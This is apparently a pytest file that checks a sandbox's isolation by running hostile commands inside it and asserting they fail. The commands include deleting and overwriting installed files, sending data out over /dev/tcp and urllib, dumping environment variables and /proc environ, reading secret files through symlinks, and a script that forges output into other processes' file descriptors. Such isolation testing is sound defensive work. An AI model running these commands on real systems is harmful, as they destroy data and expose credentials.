"""Attacks by what a setup runs, and by commands on what a setup installed and on what others print."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from sandbox.base import Bound, Sandbox, Sandboxes, Spec
from sandbox.daemon import connect
from sandbox.preparing.indexes import Indexes
from sandbox.preparing.kept import Kept
from sandbox.preparing.making import Plan, make
from sandbox.preparing.places import PREFIX
from sandbox.preparing.recipe import Part, Recipe
from tests.sandbox.test_attack_network import addresses, heard

CANARY = "s3cr3t-canary"
FORGER = r"""
import json, os, struct
lie = b""
for number in range(1, 40):
    head = json.dumps({"id": number, "so_far": 3}).encode()
    lie += struct.pack(">II", len(head), 3) + head + b"lie"
places = ["/proc/%s/fd/%d" % (pid, fd) for pid in ("1", os.getppid()) for fd in range(64)]
for place in (*range(3, 64), *places):
    try:
        fd = place if isinstance(place, int) else os.open(place, os.O_WRONLY | os.O_NONBLOCK)
        os.set_blocking(fd, False)
        os.write(fd, lie)
    except OSError:
        pass
"""


class Setups:
    """Runs commands as a setup, in a folder that is the project."""

    def __init__(self, sandboxes: Sandboxes, folder: Path) -> None:
        self._sandboxes = sandboxes
        self._folder = folder
        self.tree = folder / "project"
        self.tree.mkdir()
        self.images: list[str] = []

    async def run(self, command: str, *network: str, base: str = "") -> str:
        """What it printed."""
        said: list[str] = []
        if self._sandboxes.kind == "docker":
            daemon = connect()
            base = daemon.images.find("", False)
            daemon.close()
        recipe = Recipe((Part("test", command + "\ntrue\n"),), (), whole=True, network=network)
        plan = Plan(self.tree, recipe, base, Indexes())
        setup = await make(self._sandboxes, plan, Kept(self._folder / "kept"), said.append)
        self.images += [setup.image] if setup.kind == "docker" else []
        return "\n".join(said)


@pytest.fixture
async def setups(walls: Sandboxes, tmp_path: Path) -> AsyncIterator[Setups]:
    made = Setups(walls, tmp_path)
    yield made
    if made.images:
        daemon = connect()
        for image in made.images:
            daemon.images.forget(image)
        daemon.close()


@pytest.fixture
def installed(tmp_path: Path) -> Path:
    """What a setup installed, with nothing but the sandbox to keep anybody from writing there."""
    folder = tmp_path / "installed"
    (folder / "bin").mkdir(parents=True)
    (folder / "bin/tool").write_text("#!/bin/sh\necho tool\n")
    for place in (folder, folder / "bin", folder / "bin/tool"):
        place.chmod(0o777)
    return folder


@pytest.mark.weak("bound")
async def test_attack_commands_cannot_change_what_a_setup_installed(
    walls: Sandboxes, installed: Path
) -> None:
    room = await walls.take(Spec(image="", bound=(Bound(installed, PREFIX),)))
    await room.run(
        f"cd {PREFIX}; echo evil >bin/tool; echo evil >>bin/tool; cp /bin/true bin/evil; rm -rf bin; "
        f"mv bin old; chmod 0 bin/tool; ln -f bin/tool bin/again; truncate -s 0 bin/tool; mkdir new; "
        f"touch -d 2001-01-01 bin/tool; mount -o remount,rw {PREFIX}; umount {PREFIX}"
    )
    assert (await room.run(f"{PREFIX}/bin/tool")).output == b"tool\n"
    await room.close()
    assert sorted(path.name for path in installed.rglob("*")) == ["bin", "tool"]
    tool = installed / "bin/tool"
    assert (tool.read_text(), tool.stat().st_mode & 0o777) == ("#!/bin/sh\necho tool\n", 0o777)


@pytest.mark.weak("root", "rootfs")
async def test_attack_commands_cannot_change_the_image_that_they_run_in(walls: Sandboxes) -> None:
    room = await walls.take(Spec())
    ran = await room.run(
        "for each in /usr/bin /etc /opt /var /; do touch $each/evil && echo changed $each; done 2>/dev/null"
    )
    assert ran.output == b""


@pytest.mark.weak("network")
async def test_attack_a_setup_reaches_no_host_but_those_of_its_list(setups: Setups) -> None:
    with socket.create_server(("0.0.0.0", 0)) as server:
        port = server.getsockname()[1]
        tries = "\n".join(
            f"(echo evil >/dev/tcp/{address}/{port}) || true; "
            f"(python3 -c 'import urllib.request as r; "
            f'r.urlopen("http://{address}:{port}", timeout=2)\') || true'
            for address in addresses()
        )
        await setups.run(f"unset no_proxy; {tries}", "example.org")
        assert await asyncio.to_thread(heard, server) == b""


@pytest.mark.weak("env")
async def test_attack_a_setup_is_told_nothing_of_the_environment(
    setups: Setups, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("INTERLUDE_TEST_TOKEN", CANARY)
    said = await setups.run("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' || true")
    assert CANARY not in said and "PATH=" in said


@pytest.mark.weak("host", bubblewrap=("host", "root"))
async def test_attack_a_setup_finds_no_file_beside_the_project(setups: Setups, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text(CANARY)
    (tmp_path / "secret").chmod(0o644)
    tmp_path.chmod(0o755)
    (setups.tree / "link").symlink_to(tmp_path / "secret")
    said = await setups.run(f"cat {tmp_path}/secret {tmp_path}/project/../secret link || true; echo looked")
    assert CANARY not in said and "looked" in said


@pytest.mark.weak("secrets")
async def test_attack_a_setup_is_given_no_file_that_looks_like_a_secret(setups: Setups) -> None:
    for name in (".env", "deep/.netrc", "key.pem", ".npmrc"):
        (setups.tree / name).parent.mkdir(exist_ok=True)
        (setups.tree / name).write_text(f"_authToken={CANARY}\n")
    (setups.tree / "plain").write_text("plain\n")
    said = await setups.run("cat plain; grep -r . . || true")
    assert CANARY not in said and "plain" in said


@pytest.mark.weak("fds")
async def test_attack_no_command_speaks_for_another_that_is_watched(walls: Sandboxes) -> None:
    heard_of: list[tuple[bytes, int]] = []
    room: Sandbox = await walls.take(Spec())
    await room.write("forger.py", FORGER.encode())
    watched = asyncio.create_task(
        room.run("sleep 1; echo honest; sleep 0.5", watch=lambda data, total: heard_of.append((data, total)))
    )
    await room.run("sleep 0.3; python3 forger.py")
    await watched
    assert heard_of == [(b"honest\n", 7)]
